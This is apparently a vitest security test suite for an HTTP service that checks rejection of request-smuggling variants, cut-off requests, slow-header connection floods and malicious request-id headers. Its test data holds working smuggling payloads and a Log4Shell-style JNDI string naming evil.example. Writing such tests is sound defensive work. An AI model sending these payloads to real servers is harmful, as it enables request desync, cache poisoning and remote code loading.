import { connect, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ClusterDriver } from '../../src/cluster/cluster-driver.js';
import { SettingsFile } from '../../src/platform/settings/settings.js';
import { RawCaller, sendBytes, statusesIn } from '../support/raw-http.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/** Whatever is not complete is given up after this. */
const headersTimeoutMillis = 500;
const requestTimeoutMillis = 1_000;
const manyConnections = 400;

let app: TestApp<ClusterDriver>;
let raw: RawCaller;
beforeAll(async () => {
  app = await startTestApp({ settings: SettingsFile.parse({ http: { headersTimeoutMillis, requestTimeoutMillis } }) });
  raw = new RawCaller(app.url);
});
afterAll(async () => {
  raw.close();
  await app.close();
});

const ids = async (): Promise<string> => (await raw.call('/api/requests/ids')).body;
const body = (id: string): string => JSON.stringify({ id, requestType: 'SERVICE' });
const lines = (...all: string[]): string => all.join('\r\n');
const json = 'Content-Type: application/json';
const closing = 'Connection: close';
/** A whole call that creates `smuggled`, to be hidden in another one. */
const hidden = lines(
  'POST /api/requests HTTP/1.1',
  'Host: localhost',
  json,
  `Content-Length: ${body('smuggled').length}`,
  closing,
  '',
  body('smuggled'),
);
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
const post = (headers: string[], after = ''): string =>
  `${lines('POST /api/requests HTTP/1.1', 'Host: localhost', json, ...headers)}\r\n\r\n${after}`;

describe('a caller that waits to be asked for its body', () => {
  const expecting = (path: string, length: number, more: string[] = [json]) =>
    lines(
      `POST ${path} HTTP/1.1`,
      'Host: localhost',
      'Expect: 100-continue',
      `Content-Length: ${length}`,
      ...more,
      '',
      '',
    );
  const asked = 'HTTP/1.1 100 Continue\r\n\r\n';

  test('is asked, and answered', async () => {
    const text = body('expected');
    const got = await sendBytes(app.url, expecting('/api/requests', text.length), text);
    expect([got.startsWith(asked), statusesIn(got.slice(asked.length))]).toEqual([true, [200]]);
  });

  test.each([
    ['it is too long', '/api/requests', 10_000_000_000, [json], 413],
    ['it is no JSON', '/api/requests', 20, ['Content-Type: text/plain'], 415],
  ])('is not when %s, and what follows is no call', async (_what, path, length, more, status) => {
    const got = await sendBytes(app.url, expecting(path, length, more), hidden);
    expect(statusesIn(got)).toEqual([status]);
    expect(await ids()).not.toContain('smuggled');
  });
});

describe('a call is not hidden in another one by', () => {
  test.each<[string, string]>([
    ['a length and chunks', post(['Content-Length: 5', 'Transfer-Encoding: chunked'], `0\r\n\r\n${hidden}`)],
    ['chunks and a length', post(['Transfer-Encoding: chunked', 'Content-Length: 5'], `0\r\n\r\n${hidden}`)],
    ['two lengths', post(['Content-Length: 2', `Content-Length: ${2 + hidden.length}`], `{}${hidden}`)],
    ['two lengths in one header', post([`Content-Length: 2, ${2 + hidden.length}`], `{}${hidden}`)],
    ['a length with a sign', post(['Content-Length: +2'], `{}${hidden}`)],
    ['a negative length', post(['Content-Length: -2'], `{}${hidden}`)],
    ['a length in hexadecimal', post(['Content-Length: 0x2'], `{}${hidden}`)],
    ['a length with blanks in it', post(['Content-Length: 2 2'], `{}${hidden}`)],
    ['a length without end', post([`Content-Length: ${'9'.repeat(40)}`], `{}${hidden}`)],
    ['no number for a length', post(['Content-Length: abc'], `{}${hidden}`)],
    ['an empty length', post(['Content-Length:'], hidden)],
    ['a blank before the colon', post(['Content-Length : 2'], `{}${hidden}`)],
    ['a blank before the colon of the chunks', post(['Transfer-Encoding : chunked'], `0\r\n\r\n${hidden}`)],
    ['an unknown encoding', post(['Transfer-Encoding: xchunked'], `0\r\n\r\n${hidden}`)],
    ['chunks that are not last', post(['Transfer-Encoding: chunked, identity'], `0\r\n\r\n${hidden}`)],
    ['chunks twice', post(['Transfer-Encoding: chunked', 'Transfer-Encoding: x'], `0\r\n\r\n${hidden}`)],
    ['chunks after a control character', post(['Transfer-Encoding:\u000bchunked'], `0\r\n\r\n${hidden}`)],
    ['a quoted encoding', post(['Transfer-Encoding: "chunked"'], `0\r\n\r\n${hidden}`)],
    ['a folded header', post(['Transfer-Encoding:', ' chunked'], `0\r\n\r\n${hidden}`)],
    ['a header that goes on', post(['X: y', ' Content-Length: 2'], `{}${hidden}`)],
    ['line ends of LF alone', post(['Transfer-Encoding: chunked'], `0\n\n${hidden}`)],
    [
      'a header that ends with LF',
      `POST /api/requests HTTP/1.1\r\nHost: localhost\r\n${json}\nContent-Length: 2\n\n{}${hidden}`,
    ],
    ['a header that ends with CR', post(['X: y\rTransfer-Encoding: chunked'], `0\r\n\r\n${hidden}`)],
    ['NUL in a header', post(['X: y\u0000Transfer-Encoding: chunked'], `0\r\n\r\n${hidden}`)],
    ['the size of a chunk that is none', post(['Transfer-Encoding: chunked'], `zz\r\n${hidden}`)],
    ['the size of a chunk with a sign', post(['Transfer-Encoding: chunked'], `-1\r\n${hidden}`)],
    ['the size of a chunk that is too large', post(['Transfer-Encoding: chunked'], `${'f'.repeat(20)}\r\n${hidden}`)],
    ['a chunk that is longer than it says', post(['Transfer-Encoding: chunked'], `1\r\n{}\r\n0\r\n\r\n${hidden}`)],
    ['a chunk that ends with LF', post(['Transfer-Encoding: chunked'], `2\r\n{}\n0\r\n\r\n${hidden}`)],
    [
      'chunk extensions without end',
      post(['Transfer-Encoding: chunked'], `2;${'a'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n${hidden}`),
    ],
    ['the preface of HTTP/2', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`],
    ['another version', `GET /api/requests HTTP/3.0\r\nHost: localhost\r\n\r\n${hidden}`],
    ['no version', `GET /api/requests\r\n\r\n${hidden}`],
    ['a name without a colon', `GET /api/requests HTTP/1.1\r\nHost: localhost\r\nX\r\n\r\n${hidden}`],
    ['a header without a name', `GET /api/requests HTTP/1.1\r\nHost: localhost\r\n: x\r\n\r\n${hidden}`],
    ['two hosts', `GET /api/requests HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n${closing}\r\n\r\n${hidden}`],
    ['CONNECT', `CONNECT localhost:80 HTTP/1.1\r\nHost: localhost\r\n\r\n${hidden}`],
    ['TLS', '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003'.padEnd(80, 'x')],
  ])('%s', async (_what, bytes) => {
    const statuses = statusesIn(await sendBytes(app.url, bytes));
    expect(statuses).toHaveLength(1);
    expect([400, 405, 408, 413]).toContain(statuses[0]);
    expect(await ids()).not.toContain('smuggled');
  });

  test.each(['h2c', 'websocket', 'TLS/1.0'])('a change to %s, which there is not', async (protocol) => {
    const headers = [`Connection: Upgrade, close`, `Upgrade: ${protocol}`, 'HTTP2-Settings: x'];
    const call = lines('GET /healthz HTTP/1.1', 'Host: localhost', ...headers, '', hidden);
    expect(statusesIn(await sendBytes(app.url, call))).toEqual([200]);
    expect(await ids()).not.toContain('smuggled');
  });

  test('a body on GET: it is read as a body', async () => {
    const call = lines(
      'GET /healthz HTTP/1.1',
      'Host: localhost',
      `Content-Length: ${hidden.length}`,
      closing,
      '',
      hidden,
    );
    expect(statusesIn(await sendBytes(app.url, call))).toEqual([200]);
    expect(await ids()).not.toContain('smuggled');
  });
});

describe('a call that is cut creates nothing:', () => {
  const whole = (id: string) => post([`Content-Length: ${body(id).length}`], body(id));
  const inChunks = (id: string) => post(['Transfer-Encoding: chunked'], `${chunk(body(id))}0\r\n\r\n`);
  /** From anywhere in the body to right before its end. */
  const cuts = (text: string): string[] =>
    [0, 1, 5, 12, -1].map((at) => text.slice(0, at < 0 ? at : text.indexOf('\r\n\r\n') + 4 + at));

  function open(): Promise<Socket> {
    const { hostname, port } = new URL(app.url);
    return new Promise((resolve, reject) => {
      const socket = connect(Number(port), hostname, () => resolve(socket)).once('error', reject);
    });
  }
  const gone = (socket: Socket): Promise<unknown> =>
    new Promise((resolve) => (socket.destroyed ? resolve(undefined) : socket.once('close', resolve)));

  test.each<[string, (socket: Socket) => unknown]>([
    ['its caller hangs up', (socket) => socket.destroy()],
    ['its caller resets the connection', (socket) => socket.resetAndDestroy()],
    ['its caller ends its side', (socket) => socket.resume().end()],
    ['its caller waits', (socket) => socket.resume()],
  ])('%s', async (how, leave) => {
    const id = how.replaceAll(' ', '-');
    const all = [...cuts(whole(id)), ...cuts(inChunks(id))];
    await Promise.all(
      all.map(async (part) => {
        const socket = await open();
        socket.on('error', () => undefined);
        await new Promise<void>((resolve) => socket.write(part, () => resolve()));
        leave(socket);
        await gone(socket);
      }),
    );
    expect(await ids()).not.toContain(id);
    // The same bytes, whole, are a call.
    expect(statusesIn(await sendBytes(app.url, whole(id).replace(json, `${json}\r\n${closing}`)))).toEqual([200]);
  });
});

describe('connections', () => {
  const { hostname, port } = { hostname: '127.0.0.1', port: () => Number(new URL(app.url).port) };
  function openMany(bytes: string): {
    sockets: Socket[];
    opened: Promise<unknown>;
    got: string[];
    closed: Promise<unknown>;
  } {
    const got: string[] = [];
    const sockets = Array.from({ length: manyConnections }, (_, index) => {
      got.push('');
      const socket = connect(port(), hostname).on('error', () => undefined);
      return socket.on('data', (data) => (got[index] += data.toString('latin1')));
    });
    const opened = Promise.all(
      sockets.map(
        (socket) => new Promise<void>((resolve) => socket.on('connect', () => socket.write(bytes, () => resolve()))),
      ),
    );
    const closed = Promise.all(sockets.map((socket) => new Promise((resolve) => socket.on('close', resolve))));
    return { sockets, opened, got, closed };
  }
  async function serviceIsWell(): Promise<void> {
    for (const path of ['/healthz', '/readyz', '/api/requests', '/api/state']) {
      expect((await raw.call(path)).status, path).toBe(200);
    }
  }

  test('on which headers come to no end are answered 408 after their time, and others are served meanwhile', async () => {
    const { opened, got, closed } = openMany('GET /api/requests HTTP/1.1\r\nHost: localhost\r\nX: ');
    await opened;
    await serviceIsWell();
    await closed;
    expect(new Set(got.flatMap(statusesIn))).toEqual(new Set([408]));
    await serviceIsWell();
  });

  test('that stay idle keep none of the others waiting', async () => {
    const { sockets, opened } = openMany('');
    await opened;
    await serviceIsWell();
    expect(
      statusesIn(await sendBytes(app.url, `GET /healthz HTTP/1.1\r\nHost: localhost\r\n${closing}\r\n\r\n`)),
    ).toEqual([200]);
    for (const socket of sockets) socket.destroy();
    await serviceIsWell();
  });
});

describe('the id that a caller gives to a call', () => {
  test.each<[string, string]>([
    ['of colours', '\u001b[31mred'],
    ['of blanks', 'a b'],
    ['of JSON', '","level":"fatal","msg":"x'],
    ['of markup', '<script>'],
    ['of other letters', '\u00e4\u00ff'],
    ['of 101 letters', 'a'.repeat(101)],
    ['of a tab', 'a\tb'],
    ['of nothing', ''],
    ['of a template', '${jndi:ldap://evil.example/a}'],
  ])('%s is not taken', async (_what, id) => {
    const got = await sendBytes(
      app.url,
      `GET /api/nothing HTTP/1.1\r\nHost: localhost\r\n${closing}\r\nX-Request-Id: ${id}\r\n\r\n`,
    );
    const given = /^X-Request-Id: (.*)$/im.exec(got)?.[1]?.trim();
    if (statusesIn(got)[0] === 404) expect(given).toMatch(/^[\da-f-]{36}$/);
    else expect(statusesIn(got)).toEqual([400]);
    if (id !== '') expect(got).not.toContain(id);
  });
});
